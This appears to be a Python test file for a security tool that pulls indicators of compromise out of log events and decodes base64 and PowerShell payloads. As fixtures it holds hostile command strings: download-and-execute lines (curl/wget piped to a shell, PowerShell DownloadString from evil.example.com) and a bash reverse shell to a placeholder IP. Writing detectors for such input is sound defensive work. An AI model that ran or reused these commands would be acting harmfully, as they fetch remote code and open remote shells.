"""observables: analyze_text and annotate_event on ECS documents."""

from __future__ import annotations

import base64
import gzip

import jsonschema

import schemas
from processors.base64unpack import Base64Settings
from processors.ioc.observables import ObservablesSettings, analyze_text, annotate_event
from processors.iocextract import IoCExtract, IoCExtractSettings
from schemas.documents import stable_id


def _enc(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


class TestAnalyzeText:
    """analyze_text finds IoCs in the text and in every decoded layer."""

    def test_plain_command_line(self) -> None:
        """An ordinary command line gives sorted IoCs and no layers."""
        result = analyze_text("curl -s http://10.0.0.5:8080/x.sh | bash")
        assert result.iocs == {"ipv4": ["10.0.0.5"], "url": ["http://10.0.0.5:8080/x.sh"]}
        assert result.layers == []
        assert result.flags == {}

    def test_powershell_encoded_payload(self) -> None:
        """IoCs inside a UTF-16LE -enc payload are found and the layer is recorded."""
        result = analyze_text(
            "powershell -enc " + _enc("IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')")
        )
        assert result.iocs["url"] == ["http://evil.example.com/a.ps1"]
        assert result.iocs["dns"] == ["evil.example.com"]
        assert result.layers[0].encoding_type == "utf-16"
        assert result.layers[0].depth == 1

    def test_compressed_inner_layer(self) -> None:
        """IoCs in a gzip inside base64 are found with the layer's encoding."""
        blob = base64.b64encode(gzip.compress(b"wget http://198.51.100.7/payload")).decode()
        result = analyze_text(f"echo {blob} | base64 -d | gunzip | sh")
        assert result.iocs["ipv4"] == ["198.51.100.7"]
        assert [layer.encoding for layer in result.layers] == ["gz"]

    def test_truncation_flag(self) -> None:
        """A text longer than the extractor's cap is flagged as truncated."""
        extractor = IoCExtract(settings=IoCExtractSettings(max_input_chars=10))
        result = analyze_text("x" * 50, extractor=extractor)
        assert result.flags == {"truncated": True}

    def test_decode_can_be_disabled(self) -> None:
        """decode_base64=False skips the unpacker."""
        result = analyze_text(
            "powershell -enc " + _enc("Write-Host hello"), settings=ObservablesSettings(decode_base64=False)
        )
        assert result.layers == []

    def test_shorter_min_length_is_honoured(self) -> None:
        """A base64 run shorter than 30 characters is decoded when Base64Settings.min_length allows it."""
        payload = base64.b64encode(b"curl x.sh|sh").decode()  # 16 characters
        text = f"echo {payload} | base64 -d"
        default = analyze_text(text)
        short = analyze_text(text, settings=ObservablesSettings(base64=Base64Settings(min_length=16)))
        assert default.layers == []
        assert [layer.text for layer in short.layers] == ["curl x.sh|sh"]


class TestAnnotateEvent:
    """annotate_event adds secstream.iocs/decoded and related.* to ECS documents."""

    def _doc(self, command_line: str) -> dict[str, object]:
        return {
            "schema_version": schemas.SCHEMA_VERSION,
            "@timestamp": "2019-03-01T23:23:44.869Z",
            "message": "execve",
            "event": {
                "id": stable_id("auditd", "h", "1551487424.869", 1),
                "kind": "event",
                "module": "auditd",
                "dataset": "auditd.log",
            },
            "host": {"name": "h"},
            "process": {"command_line": command_line},
            "related": {"ip": ["10.9.9.9"]},
        }

    def test_fields_added_and_schema_valid(self) -> None:
        """IoCs, decoded layers and related fields are added and the document still validates."""
        doc = self._doc(
            "powershell -enc " + _enc("iwr http://203.0.113.9/a -OutFile c.exe; 00236a2ae558018ed13b5222ef1bd987")
        )
        annotate_event(doc)
        sec = doc["secstream"]
        assert isinstance(sec, dict)
        assert sec["iocs"] == {
            "ipv4": ["203.0.113.9"],
            "md5_hash": ["00236a2ae558018ed13b5222ef1bd987"],
            "url": ["http://203.0.113.9/a"],
        }
        assert sec["decoded"][0]["field"] == "process.command_line"
        assert doc["related"] == {"ip": ["10.9.9.9", "203.0.113.9"], "hash": ["00236a2ae558018ed13b5222ef1bd987"]}
        jsonschema.validate(doc, schemas.schema_for("events"))

    def test_nothing_found_leaves_document_unchanged(self) -> None:
        """A command line without observables is not touched."""
        doc = self._doc("/bin/sh -c iptables --version")
        before = repr(doc)
        annotate_event(doc)
        assert repr(doc) == before

    def test_hosts_from_message(self) -> None:
        """related.hosts gets the dns observables of the message."""
        doc = self._doc("ls")
        doc["message"] = "Accepted publickey for bob from 192.0.2.10 via jump.example.org"
        annotate_event(doc)
        assert doc["related"] == {"ip": ["10.9.9.9", "192.0.2.10"], "hosts": ["jump.example.org"]}


class TestAnnotateDefaults:
    """Which fields annotate_event analyses by default, and its memo of repeated texts."""

    def _doc(self, command_line: str, parent: str = "") -> dict[str, object]:
        return {
            "event": {"module": "auditd"},
            "message": "execve",
            "process": {"command_line": command_line, "parent": {"command_line": parent}},
        }

    def test_parent_command_line_is_not_analysed(self) -> None:
        """A child of a process with a base64 payload does not carry the parent's decoded layers."""
        payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").decode()
        doc = self._doc("base64 -d", parent=f"bash -c echo {payload} | base64 -d | bash")
        annotate_event(doc)
        assert "secstream" not in doc
        assert "related" not in doc

    def test_repeated_text_gives_equal_independent_annotations(self) -> None:
        """The second event with the same command line gets the same fields, not shared objects."""
        ext = IoCExtract()
        command = "powershell -enc " + _enc("iwr http://203.0.113.9/a")
        first, second = self._doc(command), self._doc(command)
        annotate_event(first, extractor=ext)
        first["secstream"]["decoded"][0]["text"] = "changed"  # type: ignore[index]
        first["related"]["ip"].append("192.0.2.1")  # type: ignore[index]
        annotate_event(second, extractor=ext)
        assert second["secstream"]["decoded"][0]["text"] == "iwr http://203.0.113.9/a"  # type: ignore[index]
        assert second["related"] == {"ip": ["203.0.113.9"]}
        assert second["secstream"]["iocs"] == {"ipv4": ["203.0.113.9"], "url": ["http://203.0.113.9/a"]}  # type: ignore[index]

    def test_memo_follows_the_extractor_configuration(self) -> None:
        """A new custom type or a changed refang setting is honoured for a text seen before."""
        ext = IoCExtract()
        first, second, third = self._doc("ticket TCK-7 hxxp://evil[.]example/x"), self._doc(""), self._doc("")
        annotate_event(first, extractor=ext)
        assert first["secstream"]["iocs"] == {"url": ["http://evil.example/x"]}  # type: ignore[index]
        ext.add_ioc_type("ticket", r"TCK-[0-9]+")
        second["process"] = first["process"]
        annotate_event(second, extractor=ext)
        assert second["secstream"]["iocs"]["ticket"] == ["TCK-7"]  # type: ignore[index]
        ext.refang = False
        third["process"] = first["process"]
        annotate_event(third, extractor=ext)
        assert third["secstream"]["iocs"]["url"] == ["hxxp://evil[.]example/x"]  # type: ignore[index]

    def test_non_default_settings_bypass_the_memo(self) -> None:
        """Settings without base64 decoding give no layers even after a default-settings call on the same text."""
        ext = IoCExtract()
        command = "powershell -enc " + _enc("iwr http://203.0.113.9/a")
        annotate_event(self._doc(command), extractor=ext)
        doc = self._doc(command)
        annotate_event(doc, extractor=ext, settings=ObservablesSettings(decode_base64=False))
        assert "decoded" not in doc.get("secstream", {})  # type: ignore[operator]
